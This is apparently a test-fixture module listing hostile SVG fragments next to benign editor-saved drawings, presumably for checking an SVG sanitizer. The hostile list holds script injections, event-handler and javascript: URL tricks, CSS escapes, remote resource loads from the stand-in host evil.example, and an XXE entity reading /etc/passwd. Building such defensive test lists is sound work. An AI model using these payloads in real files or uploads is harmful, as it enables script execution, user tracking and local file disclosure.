/** What an attacker would put into an SVG picture, opened or shown. */
export const picturePayloads: readonly string[] = [
  "<script>ran()</script>",
  "<SCRIPT>ran()</SCRIPT>",
  "<script href='https://evil.example/run.js'/>",
  "<svg:script xmlns:svg='http://www.w3.org/2000/svg'>ran()</svg:script>",
  "<h:script xmlns:h='http://www.w3.org/1999/xhtml'>ran()</h:script>",
  "<path d='M0 0' onload='ran()'/>",
  "<path d='M0 0' ONCLICK='ran()'/>",
  "<a href='javascript:ran()'><circle r='9'/></a>",
  "<a xlink:href='https://evil.example/'><circle r='9'/></a>",
  "<use href='https://evil.example/shape.svg#a'/>",
  "<use href='data:image/svg+xml,x#a'/>",
  "<image href='https://evil.example/seen.png'/>",
  "<feImage href='https://evil.example/seen.png'/>",
  "<foreignObject><p xmlns='http://www.w3.org/1999/xhtml'>A page</p></foreignObject>",
  "<iframe src='https://evil.example/'/>",
  "<animate attributeName='href' to='javascript:ran()'/>",
  "<set attributeName='onmouseover' to='ran()'/>",
  "<handler type='text/javascript'>ran()</handler>",
  "<style>@import 'https://evil.example/style.css';</style>",
  "<style>path { fill: url(https://evil.example/seen.svg#a) }</style>",
  "<style>path { fill: \\75 rl(//evil.example/seen) }</style>",
  "<path d='M0 0' style='fill: url(&quot;//evil.example/seen&quot;)'/>",
  "<path d='M0 0' fill='url(//evil.example/seen#a)'/>",
  "<g xml:base='https://evil.example/'/>",
  "<?xml-stylesheet href='https://evil.example/style.css'?>",
  "<!DOCTYPE svg [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>",
];

/** Drawings as editors save them. */
export const plainPictures: readonly string[] = [
  "<path d='M0 0h9' fill='url(#a)'/><linearGradient id='a'><stop stop-color='#fff'/></linearGradient>",
  "<style>.a { fill: url(#b) } @media (prefers-color-scheme: dark) { .a { fill: #fff } }</style>",
  "<sodipodi:namedview xmlns:sodipodi='http://sodipodi.sourceforge.net/' /><use xlink:href='#a'/>",
];
